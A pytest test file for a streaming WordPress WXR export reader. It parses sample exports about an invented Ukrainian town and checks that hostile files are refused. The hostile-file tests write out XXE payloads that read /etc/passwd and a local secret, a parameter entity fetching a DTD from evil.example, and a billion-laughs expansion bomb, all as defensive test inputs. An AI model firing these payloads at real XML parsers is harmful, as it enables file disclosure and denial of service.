"""The streaming WXR reader: every field of a builder-written export, hostile files refused."""

import io
import time
import tracemalloc
from datetime import UTC, datetime

import pytest

from vistka.wordpress import phpserial
from vistka.wordpress.tests.wxr_builder import WXRBuilder, header_xml, write_large_export
from vistka.wordpress.wxr import Author, Item, ItemCategory, Site, Term, WXRError, read_export

MARCH_1 = datetime(2024, 3, 1, 9, 30, tzinfo=UTC)


def records_of(path):
    return list(read_export(path))


def items_of(path):
    return {record.post_id: record for record in read_export(path) if isinstance(record, Item)}


def town_site(version="1.2"):
    """A small Polylang + Co-Authors Plus site about the invented town of Yablunivka."""
    export = WXRBuilder(title="Вісті Яблунівки", language="uk", wxr_version=version)
    export.author("olena", display_name="Олена Гай", first_name="Олена", last_name="Гай")
    export.author("petro", display_name="Петро Сич", email="petro@visti-yablunivka.example")
    export.guest_author("marta", display_name="Марта Вишня", email="marta@example.org", bio="Фотографиня")
    news = export.category(
        "новини", "Новини", language="uk", description="Усе про місто", meta={"color": "green"}
    )
    council = export.category("rada", "Рада", parent=news, language="uk")
    bridge = export.tag("mist", "міст", language="uk")
    photo = export.attachment(
        "2024/03/mist.jpg",
        title="Старий міст",
        alt="Міст через річку",
        caption="Міст зранку",
        credit="Марта Вишня",
    )
    post = export.post(
        "Міст через Тясьмин відкрили",
        slug="міст-відкрили",
        content="<!-- wp:paragraph --><p>Міст знову відкрито.</p><!-- /wp:paragraph -->",
        excerpt="Ремонт тривав пів року.",
        author="petro",
        categories=[news, council],
        tags=[bridge],
        language="uk",
        coauthors=["marta", "petro"],
        thumbnail=photo,
        sticky=True,
        date=MARCH_1,
        modified=datetime(2024, 3, 2, 8, 0, tzinfo=UTC),
        meta={"_yoast_wpseo_title": "Міст відкрили — Вісті", "_repeated": ["перший", "другий"]},
        menu_order=3,
    )
    return export, post, photo


# -- fields ------------------------------------------------------------------------------------


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_site_header(tmp_path, version):
    export, _, _ = town_site(version)
    site = records_of(export.write(tmp_path / "site.xml"))[0]
    assert site == Site(
        title="Вісті Яблунівки",
        link="https://visti-yablunivka.example",
        description="Вісті Яблунівки: новини міста",
        base_site_url="https://visti-yablunivka.example",
        base_blog_url="https://visti-yablunivka.example",
        language="uk",
        wxr_version=version,
        generator="https://wordpress.org/?v=6.7",
    )


def test_records_come_in_file_order(tmp_path):
    export, _, _ = town_site()
    kinds = [type(record).__name__ for record in records_of(export.write(tmp_path / "site.xml"))]
    assert kinds[0] == "Site"
    assert kinds[1:3] == ["Author", "Author"]
    assert kinds.index("Item") > kinds.index("Term")
    assert kinds.count("Item") == 3  # guest author, attachment, post


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_authors(tmp_path, version):
    export, _, _ = town_site(version)
    authors = [
        record for record in records_of(export.write(tmp_path / "site.xml")) if isinstance(record, Author)
    ]
    assert authors == [
        Author(
            id=1,
            login="olena",
            email="olena@visti-yablunivka.example",
            display_name="Олена Гай",
            first_name="Олена",
            last_name="Гай",
        ),
        Author(
            id=2,
            login="petro",
            email="petro@visti-yablunivka.example",
            display_name="Петро Сич",
            first_name="",
            last_name="",
        ),
    ]


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_terms(tmp_path, version):
    export, _, _ = town_site(version)
    terms = {
        (record.taxonomy, record.slug): record
        for record in records_of(export.write(tmp_path / "site.xml"))
        if isinstance(record, Term)
    }
    news = terms[("category", "новини")]  # written percent-encoded, read decoded
    assert news.name == "Новини"
    assert news.description == "Усе про місто"
    assert news.termmeta == {"color": ("green",)}
    assert news.parent_slug == ""
    assert isinstance(news.id, int)
    assert terms[("category", "rada")].parent_slug == "новини"
    assert terms[("post_tag", "mist")].name == "міст"
    language = terms[("language", "uk")]
    assert language.name == "Українська"
    assert phpserial.loads(language.description)["locale"] == "uk"
    assert terms[("author", "cap-marta")].name == "marta"
    assert ("term_language", "pll_uk") in terms


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_post_fields(tmp_path, version):
    export, post_ref, photo_ref = town_site(version)
    post = items_of(export.write(tmp_path / "site.xml"))[post_ref.id]
    assert post.post_type == "post"
    assert post.status == "publish"
    assert post.title == "Міст через Тясьмин відкрили"
    assert post.slug == "міст-відкрили"
    assert (
        post.link
        == "https://visti-yablunivka.example/%D0%BC%D1%96%D1%81%D1%82-%D0%B2%D1%96%D0%B4%D0%BA%D1%80%D0%B8%D0%BB%D0%B8/"
    )
    assert post.guid == f"https://visti-yablunivka.example/?p={post_ref.id}"
    assert post.content == "<!-- wp:paragraph --><p>Міст знову відкрито.</p><!-- /wp:paragraph -->"
    assert post.excerpt == "Ремонт тривав пів року."
    assert post.creator == "petro"
    assert post.pub_date == MARCH_1
    assert post.post_date_gmt == MARCH_1
    assert post.post_date_gmt.tzinfo == UTC
    assert post.post_date_local == datetime(2024, 3, 1, 11, 30)  # the site's wall clock, naive
    assert post.modified_gmt == datetime(2024, 3, 2, 8, 0, tzinfo=UTC)
    assert post.modified_local == datetime(2024, 3, 2, 10, 0)
    assert post.comment_status == "open"
    assert post.ping_status == "closed"
    assert post.sticky is True
    assert post.menu_order == 3
    assert post.parent_id is None
    assert post.attachment_url == ""
    assert post.password == ""
    assert post.meta("_thumbnail_id") == str(photo_ref.id)
    assert post.meta("_yoast_wpseo_title") == "Міст відкрили — Вісті"
    assert post.postmeta["_repeated"] == ("перший", "другий")
    assert post.meta("_missing", "нема") == "нема"
    assert [(entry.domain, entry.nicename) for entry in post.terms("category")] == [
        ("category", "новини"),
        ("category", "rada"),
    ]
    assert post.terms("post_tag") == (ItemCategory("post_tag", "mist", "міст"),)


def test_attachment_fields(tmp_path):
    export, post_ref, photo_ref = town_site()
    photo = items_of(export.write(tmp_path / "site.xml"))[photo_ref.id]
    assert photo.post_type == "attachment"
    assert photo.status == "inherit"
    assert photo.title == "Старий міст"
    assert photo.excerpt == "Міст зранку"  # WordPress keeps the caption in the excerpt
    assert photo.attachment_url == "https://visti-yablunivka.example/wp-content/uploads/2024/03/mist.jpg"
    assert photo.meta("_wp_attached_file") == "2024/03/mist.jpg"
    assert photo.meta("_wp_attachment_image_alt") == "Міст через річку"
    metadata = phpserial.loads(photo.meta("_wp_attachment_metadata"))
    assert metadata["image_meta"]["credit"] == "Марта Вишня"
    assert metadata["width"] == 1600


def test_page_with_parent_and_draft_without_dates(tmp_path):
    export = WXRBuilder()
    about = export.page("Про нас", slug="pro-nas")
    team = export.page("Команда", slug="komanda", parent=about, menu_order=2)
    draft = export.post("Чернетка про ярмарок", status="draft", date=MARCH_1)
    items = items_of(export.write(tmp_path / "site.xml"))
    assert items[team.id].post_type == "page"
    assert items[team.id].parent_id == about.id
    assert items[team.id].menu_order == 2
    assert items[draft.id].status == "draft"
    assert items[draft.id].post_date_gmt is None  # "0000-00-00 00:00:00"
    assert items[draft.id].pub_date is None  # "Mon, 30 Nov -0001 ..."
    assert items[draft.id].post_date_local == datetime(2024, 3, 1, 11, 30)


def test_cdata_end_inside_content_survives(tmp_path):
    export = WXRBuilder()
    post = export.post("Код", content="<pre>if a[b[0]]>1: pass</pre>")
    assert items_of(export.write(tmp_path / "site.xml"))[post.id].content == "<pre>if a[b[0]]>1: pass</pre>"


def test_polylang_translation_group(tmp_path):
    export = WXRBuilder()
    uk = export.post("Ярмарок у Яблунівці", slug="yarmarok", language="uk")
    ru = export.post("Ярмарка в Яблуновке", slug="yarmarok-2", language="ru")
    en = export.post("Fair in Yablunivka", slug="fair", language="en")
    alone = export.post("Лише українською", language="uk")
    group = export.translations(uk, ru, en)
    records = records_of(export.write(tmp_path / "site.xml"))
    items = {record.post_id: record for record in records if isinstance(record, Item)}
    assert {items[ref.id].language for ref in (uk, ru, en)} == {"uk", "ru", "en"}
    assert {items[ref.id].translation_group for ref in (uk, ru, en)} == {group.slug}
    assert items[alone.id].translation_group is None
    groups = {
        record.slug: record
        for record in records
        if isinstance(record, Term) and record.taxonomy == "post_translations"
    }
    assert phpserial.loads(groups[group.slug].description) == {"uk": uk.id, "ru": ru.id, "en": en.id}
    languages = {
        record.slug for record in records if isinstance(record, Term) and record.taxonomy == "language"
    }
    assert languages == {"uk", "ru", "en"}


def test_polylang_term_translations(tmp_path):
    export = WXRBuilder()
    uk = export.category("novyny", "Новини", language="uk")
    ru = export.category("novosti", "Новости", language="ru")
    en = export.category("news", "News", language="en")
    group = export.translations(uk, ru, en)
    terms = [record for record in records_of(export.write(tmp_path / "site.xml")) if isinstance(record, Term)]
    (translations,) = [term for term in terms if term.taxonomy == "term_translations"]
    assert translations.slug == group.slug
    ids = {term.slug: term.id for term in terms if term.taxonomy == "category"}
    assert phpserial.loads(translations.description) == {
        "uk": ids["novyny"],
        "ru": ids["novosti"],
        "en": ids["news"],
    }


def test_co_authors_in_byline_order_with_guest_author(tmp_path):
    export, post_ref, _ = town_site()
    items = items_of(export.write(tmp_path / "site.xml"))
    assert items[post_ref.id].coauthors == ("cap-marta", "cap-petro")
    (guest,) = [item for item in items.values() if item.post_type == "guest-author"]
    assert guest.slug == "cap-marta"
    assert guest.meta("cap-display_name") == "Марта Вишня"
    assert guest.meta("cap-user_login") == "marta"
    assert guest.meta("cap-user_email") == "marta@example.org"


def test_wxr_1_0_namespace_is_accepted(tmp_path):
    export = WXRBuilder(wxr_version="1.0")
    post = export.post("Старий експорт", content="<p>Тоді ще був WXR 1.0.</p>")
    records = records_of(export.write(tmp_path / "site.xml"))
    assert records[0].wxr_version == "1.0"
    assert [record.post_id for record in records if isinstance(record, Item)] == [post.id]


def test_binary_file_object_is_read_and_text_file_refused(tmp_path):
    export, post_ref, _ = town_site()
    data = export.to_xml().encode()
    items = [record for record in read_export(io.BytesIO(data)) if isinstance(record, Item)]
    assert post_ref.id in {item.post_id for item in items}
    with pytest.raises(TypeError, match="binary"):
        list(read_export(io.StringIO(export.to_xml())))


class CountingFile(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size=-1):
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


def test_records_stream_before_the_file_is_read(tmp_path):
    path = write_large_export(tmp_path / "big.xml", items=300)
    stream = CountingFile(path.read_bytes())
    records = iter(read_export(stream))
    first_item = next(record for record in records if isinstance(record, Item))
    assert first_item.title == "Новина номер 0"
    assert stream.bytes_read < len(stream.getvalue()) / 10


def test_large_export_in_bounded_memory(tmp_path):
    path = write_large_export(tmp_path / "big.xml", items=2500, paragraphs=50)
    size = path.stat().st_size
    assert size > 45_000_000
    started = time.monotonic()
    tracemalloc.start()
    try:
        count = 0
        for record in read_export(path):
            count += isinstance(record, Item)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 2500
    assert peak < 30_000_000, f"peak {peak / 1e6:.1f} MB while reading {size / 1e6:.0f} MB"
    assert time.monotonic() - started < 20


# -- hostile and broken files ------------------------------------------------------------------


def with_doctype(export, doctype, body_extra=""):
    xml = export.to_xml()
    prolog, _, rest = xml.partition("\n")
    rest = rest.replace("<p>Міст знову відкрито.</p>", f"<p>Міст знову відкрито.</p>{body_extra}")
    return f"{prolog}\n{doctype}\n{rest}"


def test_xxe_is_refused_and_the_file_never_appears(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("ТАЄМНИЦЯ-7731")
    export, _, _ = town_site()
    for target in (secret.as_uri(), "file:///etc/passwd"):
        xml = export.to_xml().replace("<title>Вісті Яблунівки</title>", "<title>&x;</title>")
        prolog, _, rest = xml.partition("\n")
        path = tmp_path / "xxe.xml"
        path.write_text(f'{prolog}\n<!DOCTYPE rss [<!ENTITY x SYSTEM "{target}">]>\n{rest}')
        seen = []
        with pytest.raises(WXRError, match="external entity \\(XXE\\)") as error:
            for record in read_export(path):
                seen.append(repr(record))
        assert "ТАЄМНИЦЯ" not in str(error.value) and "root:" not in str(error.value)
        assert not any("ТАЄМНИЦЯ" in text or "root:" in text for text in seen)
        assert target in str(error.value)


def test_parameter_entity_xxe_is_refused(tmp_path):
    path = tmp_path / "xxe.xml"
    path.write_text(
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>\n'
        '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel/></rss>\n'
    )
    with pytest.raises(WXRError, match="XXE"):
        list(read_export(path))


def test_billion_laughs_is_refused_quickly(tmp_path):
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
    ]
    export, _, _ = town_site()
    xml = export.to_xml().replace("<title>Вісті Яблунівки</title>", "<title>&lol9;</title>")
    prolog, _, rest = xml.partition("\n")
    path = tmp_path / "laughs.xml"
    path.write_text(f"{prolog}\n<!DOCTYPE rss [{''.join(entities)}]>\n{rest}")
    started = time.monotonic()
    with pytest.raises(WXRError, match="entity expansion"):
        list(read_export(path))
    assert time.monotonic() - started < 1


def test_any_doctype_is_refused(tmp_path):
    export, _, _ = town_site()
    prolog, _, rest = export.to_xml().partition("\n")
    path = tmp_path / "doctype.xml"
    path.write_text(f'{prolog}\n<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">\n{rest}')
    with pytest.raises(WXRError, match="document type declaration"):
        list(read_export(path))


def test_malformed_xml_reports_its_line(tmp_path):
    export, _, _ = town_site()
    lines = export.to_xml().split("\n")
    broken = next(number for number, line in enumerate(lines) if "<wp:post_name>" in line)
    lines[broken] = lines[broken].replace("</wp:post_name>", "</wp:post_nam>")
    path = tmp_path / "broken.xml"
    path.write_text("\n".join(lines))
    with pytest.raises(WXRError, match=f"malformed XML at line {broken + 1}, column \\d+: mismatched tag"):
        list(read_export(path))


def test_truncated_export_is_reported(tmp_path):
    export, _, _ = town_site()
    xml = export.to_xml()
    path = tmp_path / "cut.xml"
    path.write_text(xml[: len(xml) // 2])
    with pytest.raises(WXRError, match="malformed XML at line \\d+"):
        list(read_export(path))


def test_invalid_utf8_is_reported_not_guessed(tmp_path):
    export, _, _ = town_site()
    data = export.to_xml().encode().replace("Міст знову".encode(), b"\xd0 \xff")
    path = tmp_path / "bytes.xml"
    path.write_bytes(data)
    with pytest.raises(WXRError, match="malformed XML at line \\d+"):
        list(read_export(path))


def test_bad_post_id_is_named(tmp_path):
    export, post_ref, _ = town_site()
    path = tmp_path / "id.xml"
    path.write_text(
        export.to_xml().replace(
            f"<wp:post_id>{post_ref.id}</wp:post_id>", "<wp:post_id>дванадцять</wp:post_id>"
        )
    )
    with pytest.raises(WXRError, match="wp:post_id 'дванадцять' of the <item> titled 'Міст через Тясьмин"):
        list(read_export(path))


def test_rss_feed_without_wordpress_namespace_is_refused(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_text(
        '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Стрічка</title>'
        "<item><title>Новина</title></item></channel></rss>\n"
    )
    with pytest.raises(WXRError, match="not a WordPress export: an RSS feed without"):
        list(read_export(path))


@pytest.mark.parametrize(
    ("xml", "problem"),
    [
        ("<html><body>Не експорт</body></html>", "the document is <html>"),
        ('<rss xmlns:wp="http://wordpress.org/export/1.2/"></rss>', "no <channel>"),
        ('<rss xmlns:wp="http://wordpress.org/export/1.2/"><feed/></rss>', "holds <feed>"),
        ("", "malformed XML at line 1"),
    ],
)
def test_other_documents_are_refused(tmp_path, xml, problem):
    path = tmp_path / "other.xml"
    path.write_text(xml)
    with pytest.raises(WXRError, match=problem):
        list(read_export(path))


def test_empty_site_still_gives_its_header(tmp_path):
    path = tmp_path / "empty.xml"
    path.write_text(header_xml("Порожньо", "https://porozhnio.example", "uk") + "</channel>\n</rss>\n")
    (site,) = records_of(path)
    assert site.title == "Порожньо"


def test_control_characters_are_removed_and_counted(tmp_path):
    export = WXRBuilder()
    post = export.post(
        "Вертикальна\x0bтабуляція", content="<p>Форма\x0cподача\x00 і\tтаб\x1f.</p>\n<p>Рядок</p>"
    )
    path = export.write(tmp_path / "controls.xml")
    reader = read_export(path)
    items = {record.post_id: record for record in reader if isinstance(record, Item)}
    assert items[post.id].title == "Вертикальнатабуляція"
    assert items[post.id].content == "<p>Формаподача і\tтаб.</p>\n<p>Рядок</p>"
    assert reader.control_characters_removed == 4


def test_control_character_reference_is_malformed(tmp_path):
    export = WXRBuilder()
    export.post("Посилання", content="x")
    path = tmp_path / "reference.xml"
    path.write_text(export.to_xml().replace("<title><![CDATA[Посилання]]></title>", "<title>a&#11;b</title>"))
    with pytest.raises(WXRError, match="malformed XML at line \\d+"):
        list(read_export(path))


def test_wpml_export_add_on_fields(tmp_path):
    export = WXRBuilder(multilingual="wpml")
    uk = export.post("Нова школа в Яблунівці", language="uk")
    ru = export.post("Новая школа в Яблуновке", language="ru")
    en = export.post("A new school in Yablunivka", language="en")
    group = export.translations(uk, ru, en)
    items = items_of(export.write(tmp_path / "wpml.xml"))
    assert [items[ref.id].wpml_language for ref in (uk, ru, en)] == ["uk", "ru", "en"]
    assert {items[ref.id].wpml_translation_group for ref in (uk, ru, en)} == {group}
    assert [items[ref.id].wpml_source_language for ref in (uk, ru, en)] == [None, "uk", "uk"]
    assert all(items[ref.id].language is None for ref in (uk, ru, en))  # no Polylang terms


def test_old_tag_domain_and_bare_categories(tmp_path):
    export = WXRBuilder(wxr_version="1.0")
    post = export.post("Архівна замітка")
    xml = export.to_xml().replace(
        "\t\t<wp:post_id>",
        "\t\t<category><![CDATA[Новини]]></category>\n"
        '\t\t<category domain="category" nicename="novyny"><![CDATA[Новини]]></category>\n'
        '\t\t<category domain="tag" nicename="mist"><![CDATA[міст]]></category>\n'
        "\t\t<wp:post_id>",
    )
    path = tmp_path / "old.xml"
    path.write_text(xml)
    item = items_of(path)[post.id]
    assert item.categories == (
        ItemCategory("category", "novyny", "Новини"),
        ItemCategory("post_tag", "mist", "міст"),
    )


def test_a_single_oversized_record_is_refused(tmp_path):
    export = WXRBuilder()
    export.post("Звичайна", content="<p>коротко</p>")
    export.post("Величезна", content="<p>" + "довго " * 100_000 + "</p>")
    path = export.write(tmp_path / "huge.xml")
    assert sum(isinstance(record, Item) for record in read_export(path)) == 2
    seen = []
    with pytest.raises(WXRError, match="a single record .* runs past 200000 bytes"):
        for record in read_export(path, max_record_bytes=200_000):
            seen.append(record)
    assert any(isinstance(record, Item) and record.title == "Звичайна" for record in seen)


def test_export_in_the_blogs_own_8_bit_charset(tmp_path):
    # WordPress writes encoding="<blog_charset>"; old Russian and Ukrainian sites ran windows-1251
    export = WXRBuilder(language="ru")
    post = export.post("Новая школа в Яблуновке", content="<p>Открытие в сентябре.</p>")
    xml = export.to_xml().replace('encoding="UTF-8"', 'encoding="windows-1251"')
    path = tmp_path / "cp1251.xml"
    path.write_bytes(xml.encode("cp1251"))
    item = items_of(path)[post.id]
    assert item.title == "Новая школа в Яблуновке"
    assert item.content == "<p>Открытие в сентябре.</p>"
